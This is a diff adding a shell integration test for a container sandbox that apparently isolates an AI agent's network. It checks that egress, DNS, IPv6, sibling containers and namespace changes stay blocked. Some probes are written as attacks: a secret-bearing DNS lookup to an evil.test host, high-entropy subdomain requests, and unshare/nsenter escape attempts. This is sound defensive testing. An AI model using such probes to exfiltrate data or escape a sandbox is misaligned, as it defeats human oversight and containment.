@@ -1,0 +1,139 @@
+# From inside there is one way out: the gate. Rows N01-N03, N07-N11, T15.
+. "${0%/*}/lib.sh"
+
+site_ ''
+s=$(slug_ iso)
+o=$(slug_ iso2)
+# Services that the host has on every address: nothing of them may be reachable.
+python3 -m http.server 18099 --bind 0.0.0.0 --directory "$IT_WORK/site" >/dev/null 2>&1 &
+web=$!
+trap 'kill $web 2>/dev/null' EXIT
+up_ "$s" root || echo "# the bottle did not come up: $(cat "$err")"
+up_ "$o" root || echo "# the second bottle did not come up: $(cat "$err")"
+address() { docker inspect -f "{{(index .NetworkSettings.Networks \"$2\").IPAddress}}" "$1" 2>/dev/null; }
+
+case_ "nothing answers by address past the gate (N01)"
+sh_ "$s" "curl -sS -m 6 --noproxy '*' https://1.1.1.1/"
+expect "no connection" [ "$status" -eq 7 ] || [ "$status" -eq 28 ]
+sh_ "$s" "curl -sS -m 6 --noproxy '*' http://$UP/"
+expect "no connection to the upstream itself" [ "$status" -ne 0 ]
+refuse_out hello
+
+case_ "a service of the host on 0.0.0.0 is not reachable through any address of the host"
+wait_for 5 curl -sS -o /dev/null http://127.0.0.1:18099/ || bad "the service does not run"
+for a in $(ip -o -4 addr show | awk '{ sub("/.*", "", $4); print $4 }' | grep -v '^127\.'); do
+	sh_ "$s" "curl -sS -m 4 --noproxy '*' http://$a:18099/"
+	expect "no answer at $a" [ "$status" -ne 0 ]
+	sh_ "$s" "curl -sS -o /dev/null -m 4 -w '%{http_code}' http://$a:18099/"
+	expect "the gate refuses $a" grep -q 403 "$out"
+done
+gateway=$(docker network inspect -f '{{(index .IPAM.Config 0).Gateway}}' "bottle-net-$s" 2>/dev/null)
+sh_ "$s" "curl -sS -m 4 --noproxy '*' http://$gateway:18099/"
+expect "no answer at $gateway" [ "$status" -ne 0 ]
+
+case_ "UDP, DNS over TLS and ICMP go nowhere (N02)"
+sh_ "$s" 'python3 - <<"PY"
+import socket
+for host, port in (("1.1.1.1", 53), ("8.8.8.8", 443), ("1.1.1.1", 123)):
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.settimeout(1.5)
+    try:
+        s.sendto(b"\0" * 32, (host, port))
+        s.recv(10)
+        print("ANSWER", host, port)
+    except OSError as e:
+        print("none", host, port)
+try:
+    socket.create_connection(("1.1.1.1", 853), 4)
+    print("ANSWER 853")
+except OSError:
+    print("none 853")
+try:
+    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
+    print("ANSWER raw")
+except OSError:
+    print("none raw")
+try:
+    socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
+    print("ANSWER packet")
+except OSError:
+    print("none packet")
+PY'
+expect_out "none packet"
+refuse_out ANSWER
+
+case_ "a name that is not allowed is asked of nobody (N03)"
+sh_ "$s" 'getent hosts secret-0123456789.evil.test; echo $?'
+expect_out 2
+expect_event "$s" '.event == "dns" and .host == "secret-0123456789.evil.test" and .verdict == "block"'
+
+case_ "there is no IPv6 (N07)"
+sh_ "$s" 'cat /proc/net/if_inet6; ip -6 route'
+refuse_out eth0
+
+case_ "the other bottle, its gate and the gate's admin are not reachable (N08)"
+for a in $(address "bottle-gate-$o" "bottle-net-$o") $(address "bottle-gate-$o" "bottle-out-$o") \
+	$(address "bottle-agent-$o" "bottle-net-$o") $(address "bottle-gate-$s" "bottle-out-$s"); do
+	for p in 8888 443 80 53; do
+		sh_ "$s" "curl -sS -m 3 --noproxy '*' http://$a:$p/"
+		expect "no connection to $a:$p" [ "$status" -eq 7 ] || [ "$status" -eq 28 ]
+	done
+done
+sh_ "$s" "curl -sS -m 3 -o /dev/null -w '%{http_code}' --noproxy '*' http://bottle-gate:8888/metrics; find / -xdev -name admin.sock 2>/dev/null"
+refuse_out admin.sock
+refuse_out 200
+
+case_ "the network cannot be changed from inside (N09)"
+for c in 'ip route add default via 10.213.0.1' 'ip addr add 10.9.9.9/24 dev eth0' 'ip link set eth0 down' \
+	'unshare -n true' 'unshare -Urn true' 'mount -t tmpfs x /mnt' 'nsenter -t 1 -n true'; do
+	sh_ "$s" "$c"
+	expect "refused: $c" [ "$status" -ne 0 ]
+done
+sh_ "$s" 'grep -E "CapEff|NoNewPrivs|Seccomp:" /proc/self/status'
+expect_out "$(printf 'NoNewPrivs:\t1')"
+expect_out "$(printf 'Seccomp:\t2')"
+refuse_out 3fffffff
+
+case_ "an allowed host is refused on another port (N10)"
+for p in 22 25 8443; do
+	sh_ "$s" "curl -sS -m 5 -o /dev/null -w '%{http_connect}' https://api.good.test:$p/"
+	expect_out 403
+done
+
+case_ "the gate does not proxy to itself (N11)"
+sh_ "$s" "curl -sS -m 5 -o /dev/null -w '%{http_code}' http://bottle-gate:8888/; curl -sS -m 5 -o /dev/null -w ' %{http_code}' -x http://bottle-gate:8888 http://$(address "bottle-gate-$s" "bottle-net-$s"):8888/"
+refuse_out 200
+refuse_out 502
+
+case_ "a name with a secret's entropy under a wildcard is refused"
+sh_ "$s" 'curl -sS -o /dev/null -w "%{http_connect}" https://q7x2kz9w4mb8vn3rtl5yj6hd.a.wild.test/'
+expect_out 403
+
+case_ "what is not allowed is 403 with the reason, and no DNS query is made for it"
+sh_ "$s" 'curl -sS -i -x http://bottle-gate:8888 http://evil.test/ ; curl -sS -v https://evil.test/ 2>&1'
+expect_out "403"
+expect_out "X-Bottle-Reason: allowlist"
+
+case_ "one bottle's CA is not trusted in another (T15)"
+docker cp -q "bottle-agent-$o:/usr/local/share/ca-certificates/claude-bottle-mitm.crt" "$IT_WORK/other.crt" 2>/dev/null ||
+	docker cp "bottle-agent-$o:/usr/local/share/ca-certificates/claude-bottle-mitm.crt" "$IT_WORK/other.crt" >/dev/null 2>&1
+docker cp "$IT_WORK/other.crt" "bottle-agent-$s:/tmp/other.crt" >/dev/null 2>&1
+sh_ "$s" 'openssl verify -CAfile /etc/ssl/certs/ca-certificates.crt /tmp/other.crt 2>&1'
+refuse_out ": OK"
+
+case_ "the agent runs with no more rights than its image needs, and with limits"
+run_ docker inspect "bottle-agent-$s"
+expect_out '"no-new-privileges"'
+expect "memory, processes and CPUs are limited" jq -e '.[0].HostConfig | .Memory > 0 and .PidsLimit > 0 and .NanoCpus > 0' "$out"
+expect "all capabilities dropped first" jq -e '.[0].HostConfig.CapDrop == ["ALL"]' "$out"
+run_ docker inspect "bottle-gate-$s"
+expect "the gate: ordinary user, read-only root, one capability" jq -e '.[0] | .Config.User == "65532:65532" and .HostConfig.ReadonlyRootfs and .HostConfig.CapDrop == ["ALL"] and (.HostConfig.CapAdd | length) == 1' "$out"
+
+down_ "$o"
+case_ "stopping one bottle leaves the other alone"
+sh_ "$s" 'curl -sS https://api.good.test/'
+expect_out "hello from api.good.test"
+expect_nothing_left "$o"
+down_ "$s"
+expect_nothing_left "$s"
+done_
